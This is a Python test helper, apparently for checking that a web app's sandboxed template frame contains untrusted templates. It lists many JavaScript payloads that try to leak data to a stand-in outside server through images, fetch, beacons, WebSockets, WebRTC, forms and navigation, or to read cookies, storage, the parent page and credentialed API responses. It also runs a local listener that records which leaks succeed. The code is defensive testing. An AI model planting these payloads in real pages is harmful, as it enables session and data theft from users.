"""Templates that try to get out of their frame, and a server elsewhere that hears them if they do."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Each sends its own name to the server elsewhere, or says LOOT and its name when it could read
# something. They are tried together in one frame.
QUIET_ATTACKS = {
    "image": "new Image().src = LEAK('image')",
    "picture-set": "document.body.insertAdjacentHTML('beforeend', `<img srcset='${LEAK('picture-set')} 1x'>`)",
    "svg-image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${LEAK('svg-image')}'/></svg>`)",
    "style-link": "document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='${LEAK('style-link')}'>`)",
    "style-import": "document.body.insertAdjacentHTML('beforeend', `<style>@import '${LEAK('style-import')}'</style>`)",
    "style-background": "document.body.insertAdjacentHTML('beforeend', `<p style=\"background:url('${LEAK('style-background')}')\">x</p>`)",
    "font": "new FontFace('f', `url(${LEAK('font')})`).load().catch(() => 0)",
    "fetch": "fetch(LEAK('fetch'), { mode: 'no-cors' }).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', LEAK('xhr')); x.send('secret')",
    "beacon": "navigator.sendBeacon(LEAK('beacon'), 'secret')",
    "websocket": "new WebSocket(LEAK('websocket').replace('http', 'ws'))",
    "eventsource": "new EventSource(LEAK('eventsource'))",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: LEAK('script') }))",
    "import": "import(LEAK('import')).catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${LEAK('worker')}', {mode: 'no-cors'})`])))",
    "video": "document.body.insertAdjacentHTML('beforeend', `<video autoplay src='${LEAK('video')}'></video>`)",
    "object": "document.body.insertAdjacentHTML('beforeend', `<object data='${LEAK('object')}'></object>`)",
    "embed": "document.body.insertAdjacentHTML('beforeend', `<embed src='${LEAK('embed')}'>`)",
    "nested-frame": "document.body.insertAdjacentHTML('beforeend', `<iframe src='${LEAK('nested-frame')}'></iframe>`)",
    "nested-srcdoc": "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src='${LEAK('nested-srcdoc')}'>` }))",
    "preload": "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: LEAK('preload') }))",
    "form": "const f = document.createElement('form'); f.action = LEAK('form'); f.method = 'post'; f.target = 'inside'; const b = document.createElement('button'); f.append(b); const i = document.createElement('iframe'); i.name = 'inside'; document.body.append(i, f); HTMLFormElement.prototype.submit.call(f); b.click()",
    "peer": "const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = () => LOOT('peer'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
    "nested-peer": "const n = document.createElement('iframe'); n.srcdoc = '<script>const p = new RTCPeerConnection(); p.createDataChannel(1); p.onicecandidate = () => console.log(`LOOT nested-peer`); p.createOffer().then((offer) => p.setLocalDescription(offer))<' + '/script>'; document.body.append(n)",
    "shadow-peer": "const h = document.createElement('div'); document.body.append(h); const i = document.createElement('iframe'); i.srcdoc = '<script>const p = new RTCPeerConnection(); p.createDataChannel(1); p.onicecandidate = () => console.log(`LOOT shadow-peer`); p.createOffer().then((offer) => p.setLocalDescription(offer))<' + '/script>'; h.attachShadow({ mode: 'closed' }).append(i)",
    "clone-peer": "const h = document.createElement('div'); const i = document.createElement('iframe'); i.srcdoc = '<script>const p = new RTCPeerConnection(); p.createDataChannel(1); p.onicecandidate = () => console.log(`LOOT clone-peer`); p.createOffer().then((offer) => p.setLocalDescription(offer))<' + '/script>'; h.attachShadow({ mode: 'open', clonable: true }).append(i); document.body.append(h.cloneNode(true))",
    "unsafe-peer": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe('<div><template shadowrootmode=open><iframe></iframe></template></div>'); const i = d.firstChild.shadowRoot.firstChild; i.srcdoc = '<script>const p = new RTCPeerConnection(); p.createDataChannel(1); p.onicecandidate = () => console.log(`LOOT unsafe-peer`); p.createOffer().then((offer) => p.setLocalDescription(offer))<' + '/script>'",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: LEAK('prefetch') }))",
    "cursor": "document.body.style.cursor = `url('${LEAK('cursor')}'), auto`; document.body.insertAdjacentHTML('beforeend', `<p style=\"list-style-image:url('${LEAK('cursor')}');display:list-item\">x</p>`)",
    "base": "const b = Object.assign(document.createElement('base'), { href: LEAK('') }); document.head.prepend(b); new Image().src = 'base'",
    "cookie": "if (document.cookie) LOOT('cookie')",
    "local-storage": "if (localStorage.length >= 0) LOOT('local-storage')",
    "session-storage": "if (sessionStorage.length >= 0) LOOT('session-storage')",
    "indexed-db": "indexedDB.open('x').onsuccess = () => LOOT('indexed-db')",
    "parent-dom": "if (parent.document.body.innerHTML) LOOT('parent-dom')",
    "parent-address": "if (parent.location.href) LOOT('parent-address')",
    "top-cookie": "if (top.document.cookie) LOOT('top-cookie')",
    "frame-element": "if (window.frameElement) LOOT('frame-element')",
    "api-with-session": "fetch(SITE + '/api/v1/me', { credentials: 'include' }).then((r) => r.text()).then((t) => t.includes('@') && LOOT('api-with-session')).catch(() => 0)",
    "page-with-session": "fetch(SITE + '/profile/', { credentials: 'include' }).then((r) => r.text()).then((t) => t.includes('<form') && LOOT('page-with-session')).catch(() => 0)",
}  # fmt: skip
# Each of these leaves the page, so each is tried alone.
LOUD_ATTACKS = {
    "self-navigation": "location.href = LEAK('self-navigation')",
    "self-refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${LEAK('self-refresh')}'>`)",
    "self-link": "const a = document.createElement('a'); a.href = LEAK('self-link'); document.body.append(a); a.click()",
    "top-navigation": "top.location.href = LEAK('top-navigation')",
    "top-link": "const a = document.createElement('a'); a.href = LEAK('top-link'); a.target = '_top'; document.body.append(a); a.click()",
    "pop-up": "window.open(LEAK('pop-up'))",
    "form-self": "const f = document.createElement('form'); f.action = LEAK('form-self'); f.append(document.createElement('button')); document.body.append(f); f.firstChild.click(); f.remove()",
}  # fmt: skip


def template_of(attacks: dict[str, str], elsewhere: str, site: str) -> str:
    """HTML that tries these attacks one after the other, and says RAN as they begin."""
    tries = "\n".join(f"try {{ {code} }} catch {{ }}" for code in attacks.values())
    scoped = "\n".join(f"{{ {line} }}" for line in tries.split("\n"))
    return f"""<p>Nothing to see.</p><input name="answer"><script>
const SITE = "{site}", LEAK = (name) => "{elsewhere}/leak/" + name, LOOT = (name) => console.log("LOOT " + name);
addEventListener("load", () => {{
console.log("RAN");
{scoped}
}});
</script>"""


class Elsewhere:
    """A server of somebody else. It hears whoever comes, and can show a page without protection."""

    def __init__(self, address: str) -> None:
        self.address = address
        self.heard: set[str] = set()
        self.attack = ""


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/leak/"):
                found.heard.add(self.path.removeprefix("/leak/").split("?")[0])
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Set-Cookie", "sessionid=secret")
            body = self.body().encode()
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.do_GET()

        def body(self) -> str:
            if self.path == "/victim":
                return "<p>secret</p><iframe src='/unprotected'></iframe>"
            if self.path == "/unprotected":
                return found.attack
            if self.path in ("/api/v1/me", "/profile/") and "secret" in self.headers["Cookie"]:
                return "<form>wim@example.org"
            return ""

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.address = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
